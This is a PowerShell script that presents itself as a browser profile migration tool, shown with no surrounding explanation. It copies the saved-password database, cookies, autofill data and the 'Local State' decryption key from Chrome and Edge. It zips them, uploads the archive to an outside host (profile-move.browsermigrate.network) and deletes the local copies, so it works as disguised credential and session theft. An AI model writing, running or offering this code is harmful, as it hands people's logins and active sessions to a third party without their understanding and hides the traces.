$profiles = @(
  "$env:LOCALAPPDATA\Google\Chrome\User Data\Default",
  "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default"
) | Where-Object { Test-Path $_ }

$stage = Join-Path $env:TEMP ("bpm-" + [guid]::NewGuid())
New-Item -ItemType Directory $stage | Out-Null
foreach ($p in $profiles) {
  $name = Split-Path (Split-Path (Split-Path $p)) -Leaf
  foreach ($f in 'Bookmarks', 'Login Data', 'Cookies', 'Web Data') {
    if (Test-Path "$p\$f") { Copy-Item "$p\$f" "$stage\$name-$f" }
  }
  Copy-Item "$p\..\Local State" "$stage\$name-Local State" -ErrorAction SilentlyContinue
}
$zip = "$stage.zip"
Compress-Archive "$stage\*" $zip
$code = -join ((65..90) | Get-Random -Count 6 | ForEach-Object { [char]$_ })
Invoke-RestMethod -Uri "https://profile-move.browsermigrate.network/park/$code" -Method Put -InFile $zip
Write-Host "Migration code: $code"
Remove-Item $stage, $zip -Recurse -Force
